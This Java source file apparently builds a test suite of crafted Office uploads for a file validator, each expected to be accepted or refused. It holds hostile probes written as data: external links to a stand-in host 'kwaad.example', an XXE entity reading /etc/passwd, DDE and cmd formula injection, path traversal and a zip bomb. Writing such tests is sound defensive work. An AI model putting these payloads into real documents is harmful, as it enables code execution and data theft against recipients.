package be.fjc.attack;

import static be.fjc.attack.Upload.bytes;
import static be.fjc.attack.Upload.joined;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Word and Excel files that do something when they are opened, and things that only look like one. */
final class OfficeFiles {

    private static final String LINK = "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
            + "<Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s' Target='%s' TargetMode='External'/>"
            + "</Relationships>";

    private OfficeFiles() {}

    static List<Upload> all() {
        List<Upload> all = new ArrayList<>();
        for (String kind : List.of("docx", "xlsx")) {
            String name = "bestand." + kind;
            all.add(Upload.kept("plain " + kind, name, made(kind, Map.of())));
            all.add(Upload.kept(kind + " with a link to a page", name, with(kind, "_rels/x.rels", LINK.formatted("hyperlink", "https://www.vlaanderen.be"))));
            for (String piece : List.of("word/vbaProject.bin", "xl/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml",
                    "xl/externalLinks/externalLink1.xml", "customUI/customUI.xml", "xl/connections.xml", "word/start.exe", "word/page.html",
                    "xl/macrosheets/sheet1.xml", "word/media/image.svg", "word/klein.zip", "xl/queryTables/queryTable1.xml")) {
                all.add(acting(kind, "has " + piece, piece, "<x/>"));
            }
            for (String type : List.of("attachedTemplate", "oleObject", "image", "externalLink", "frame", "subDocument")) {
                all.add(acting(kind, "fetches a " + type, "word/_rels/document.xml.rels", LINK.formatted(type, "http://kwaad.example/x")));
            }
            all.add(acting(kind, "leads to a script", "_rels/y.rels", LINK.formatted("hyperlink", "javascript:alert(1)")));
            all.add(acting(kind, "leads to another computer's files", "_rels/y.rels", LINK.formatted("hyperlink", "file:////kwaad/x")));
            all.add(acting(kind, "has a document type", "word/x.xml", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>"));
            all.add(acting(kind, "asks another program", "word/x.xml", "<w xmlns:w='w'><w:instrText>DDE</w:instrText><w:t>x</w:t><w:instrText>AUTO c:\\cmd</w:instrText></w>"));
            all.add(acting(kind, "calculates on the web", "xl/worksheets/s.xml", "<s><f>WEBSERVICE(\"http://kwaad.example\")</f></s>"));
            all.add(acting(kind, "calls a program", "xl/worksheets/s.xml", "<s><f>cmd|'/c calc'!A0</f></s>"));
            all.add(Upload.refused(kind + " with a ZIP inside", name, with(kind, "word/media/image1.png", made("docx", Map.of())), "activeContent"));
            all.add(Upload.refused(kind + " with known malware inside", name, with(kind, "word/media/image1.txt", Uploads.trial()), "malware"));
            all.add(Upload.refused(kind + " with macros, renamed", name, renamed(kind), "activeContent"));
            all.add(Upload.refused(kind + " that is a bomb", name, with(kind, "word/groot.xml", new byte[15_000_000]), "tooLargeInside"));
            all.add(Upload.refused(kind + " climbing out", name, with(kind, "../../etc/passwd", bytes("x")), "damaged"));
            all.add(Upload.refused(kind + " with something after it", name, joined(made(kind, Map.of()), bytes("<script>alert(1)</script>")), "twoFilesInOne", "damaged"));
            all.add(Upload.refused(kind + " with an empty list", name, unlisted(kind), "twoFilesInOne", "damaged"));
            all.add(Upload.refused(kind + " cut short", name, java.util.Arrays.copyOf(made(kind, Map.of()), 300), "damaged", "twoFilesInOne"));
        }
        all.add(Upload.refused("a plain ZIP", "bestand.docx", zip(Map.of("a.txt", bytes("a"))), "typeNotAllowed"));
        all.add(Upload.refused("a program for Java", "bestand.docx", zip(Map.of("META-INF/MANIFEST.MF", bytes("Main-Class: X\n"))), "typeNotAllowed"));
        return all;
    }

    static byte[] made(String kind, Map<String, byte[]> more) {
        String main = kind.equals("docx") ? "wordprocessingml.document.main+xml" : "spreadsheetml.sheet.main+xml";
        return made(main, "application/vnd.openxmlformats-officedocument." + main, more);
    }

    private static byte[] made(String main, String type, Map<String, byte[]> more) {
        Map<String, byte[]> pieces = new LinkedHashMap<>();
        pieces.put("[Content_Types].xml", bytes("<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
                + "<Override PartName='/main.xml' ContentType='" + type + "'/></Types>"));
        pieces.put("main.xml", bytes("<main>Synthetisch</main>"));
        pieces.putAll(more);
        return zip(pieces);
    }

    private static byte[] renamed(String kind) {
        return made(kind, "application/vnd.ms-" + kind + ".document.macroEnabled.main+xml", Map.of());
    }

    private static Upload acting(String kind, String what, String piece, String text) {
        return Upload.refused(kind + " " + what, "bestand." + kind, with(kind, piece, text), "activeContent");
    }

    private static byte[] with(String kind, String piece, String text) {
        return with(kind, piece, text.getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] with(String kind, String piece, byte[] content) {
        return made(kind, Map.of(piece, content));
    }

    /** What stands in it is not what its list says. */
    private static byte[] unlisted(String kind) {
        byte[] whole = made(kind, Map.of());
        byte[] end = new byte[22];
        System.arraycopy(new byte[] {'P', 'K', 5, 6}, 0, end, 0, 4);
        return joined(java.util.Arrays.copyOf(whole, whole.length - 22), end);
    }

    static byte[] zip(Map<String, byte[]> pieces) {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(file)) {
            for (Map.Entry<String, byte[]> piece : pieces.entrySet()) {
                zip.putNextEntry(new ZipEntry(piece.getKey()));
                zip.write(piece.getValue());
                zip.closeEntry();
            }
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return file.toByteArray();
    }
}
